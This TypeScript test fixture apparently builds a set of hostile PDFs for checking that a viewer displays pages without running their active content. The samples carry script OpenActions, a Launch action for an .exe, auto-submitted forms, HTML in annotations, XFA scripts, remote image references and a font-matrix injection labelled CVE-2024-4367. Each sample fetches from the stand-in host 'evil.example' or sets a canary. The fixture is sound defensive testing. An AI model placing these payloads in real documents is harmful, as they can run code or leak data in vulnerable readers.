/** A PDF that a reader should show without doing what it asks for. */
export interface HostilePdf {
  readonly what: string
  readonly content: Buffer
  /** False when there is nothing to draw. */
  readonly isDrawn: boolean
}

/** The host that no reader may contact. */
export const hostileHost = 'evil.example'

const away = `https://${hostileHost}`
const script = `try{app.alert(1)}catch(e){}globalThis.canary=1;fetch\\("${away}/script"\\)`
const scriptAction = `<</S/JavaScript/JS(${script})>>`

interface Parts {
  readonly catalog?: string
  readonly page?: string
  readonly resources?: string
  /** Further objects, numbered from 6 up. */
  readonly objects?: readonly string[]
  readonly drawing?: string
}

function stream(dictionary: string, text: string): string {
  return `<<${dictionary}/Length ${Buffer.byteLength(text, 'latin1')}>>\nstream\n${text}\nendstream`
}

/** Returns a complete PDF of one page with a text. */
function pdfWith({ catalog = '', page = '', resources = '', objects = [], drawing = '' }: Parts): Buffer {
  const all = [
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>${resources}>>${page}>>`,
    stream('', `BT /F1 24 Tf 20 150 Td (A document) Tj ET ${drawing}`),
    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
    ...objects,
  ]
  let text = '%PDF-1.7\n'
  const offsets = all.map((object, index) => {
    const at = text.length
    text += `${index + 1} 0 obj\n${object}\nendobj\n`
    return at
  })
  const rows = offsets.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')
  const table = `xref\n0 ${all.length + 1}\n0000000000 65535 f \n${rows}`
  const trailer = `trailer\n<</Size ${all.length + 1}/Root 1 0 R>>\nstartxref\n${text.length}\n%%EOF\n`
  return Buffer.from(text + table + trailer, 'latin1')
}

function annotation(entries: string): Parts {
  return { page: '/Annots[6 0 R]', objects: [`<</Type/Annot/Rect[0 0 300 200]${entries}>>`] }
}

const xfa = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
<subform layout="tb"><event activity="initialize"><script contentType="application/x-javascript">globalThis.canary=1</script></event>
<draw><value><image href="${away}/xfa.png"/></value></draw></subform></template></xdp:xdp>`

/** A font whose matrix ends the call that draws a glyph and starts another (CVE-2024-4367). */
const fontWithScript = `<</Type/Font/Subtype/Type1/BaseFont/Odd/FirstChar 65/LastChar 65/Widths[600]
/FontMatrix[0.001 0 0 0.001 0 (0\\);globalThis.canary=1;fetch\\("${away}/font"\\);//)]
/FontDescriptor<</Type/FontDescriptor/FontName/Odd/Flags 4/FontBBox[0 0 600 700]/ItalicAngle 0/Ascent 700/Descent 0/CapHeight 700/StemV 80>>>>`

/** Returns PDFs with scripts, attachments, links, forms, fonts and streams that reach for something outside. */
export function hostilePdfs(): readonly HostilePdf[] {
  const drawn = (what: string, parts: Parts) => ({ what, content: pdfWith(parts), isDrawn: true })
  const remote = `/F<</FS/URL/F(${away}/stream)>>`
  return [
    drawn('a script at opening', {
      catalog: `/OpenAction${scriptAction}/Names<</JavaScript<</Names[(a)${scriptAction}]>>>>/AA<</WC${scriptAction}>>`,
      page: `/AA<</O${scriptAction}/C${scriptAction}>>`,
    }),
    drawn('an address at opening', { catalog: `/OpenAction<</S/URI/URI(${away}/open)>>/URI<</Base(${away}/)>>` }),
    drawn('a program at opening', { catalog: `/OpenAction<</S/Launch/F(${away}/a.exe)/Next${scriptAction}>>` }),
    drawn('a form that is sent at opening', {
      catalog: `/OpenAction<</S/SubmitForm/F<</FS/URL/F(${away}/form)>>>>`,
    }),
    drawn(
      'links to a page and to a script',
      annotation(`/Subtype/Link/A<</S/URI/URI(${away}/link)/Next${scriptAction}>>`),
    ),
    drawn('a field with a script', {
      ...annotation(`/Subtype/Widget/FT/Tx/T(a)/V(1)/AA<</F${scriptAction}/C${scriptAction}/PV${scriptAction}>>`),
      catalog: '/AcroForm<</Fields[6 0 R]/CO[6 0 R]/NeedAppearances true>>',
    }),
    drawn(
      'a note with HTML',
      annotation(
        `/Subtype/FreeText/DA(/F1 9 Tf)/Contents(<img src=x onerror=canary=1>)/RC(<body><img src="${away}/note" onerror="canary=1"/></body>)`,
      ),
    ),
    drawn('an attachment', {
      catalog: '/Names<</EmbeddedFiles<</Names[(a.html)6 0 R]>>>>',
      objects: [
        '<</Type/Filespec/F(a.html)/EF<</F 7 0 R>>>>',
        stream('/Type/EmbeddedFile', '<script>canary=1</script>'),
      ],
    }),
    drawn('a form in XFA', { catalog: '/NeedsRendering true/AcroForm<</XFA 6 0 R>>', objects: [stream('', xfa)] }),
    drawn('a font with a script in its matrix', {
      resources: '/Font<</F1 5 0 R/F2 6 0 R>>',
      objects: [fontWithScript],
      drawing: 'BT /F2 24 Tf 20 80 Td (AAA) Tj ET BT 7 Tr /F2 24 Tf 20 40 Td (AAA) Tj ET',
    }),
    drawn('a picture and a page of another host', {
      resources: '/XObject<</X1 6 0 R/X2 7 0 R>>',
      objects: [
        stream(`/Type/XObject/Subtype/Image/Width 8/Height 8/BitsPerComponent 8/ColorSpace/DeviceGray${remote}`, ''),
        stream(`/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Ref<</F(${away}/page.pdf)/Page 0>>${remote}`, ''),
      ],
      drawing: 'q 50 0 0 50 20 20 cm /X1 Do Q /X2 Do',
    }),
    drawn('a colour that is computed', {
      resources: '/Shading<</S1<</ShadingType 1/ColorSpace/DeviceGray/Function 6 0 R>>>>',
      objects: [stream('/FunctionType 4/Domain[0 1 0 1]/Range[0 1]', '{ pop 0.5 mul } ;globalThis.canary=1; { }')],
      drawing: '/S1 sh',
    }),
    { what: 'no PDF', content: Buffer.from(`%PDF-1.7\n<script>canary=1</script>`), isDrawn: false },
  ]
}
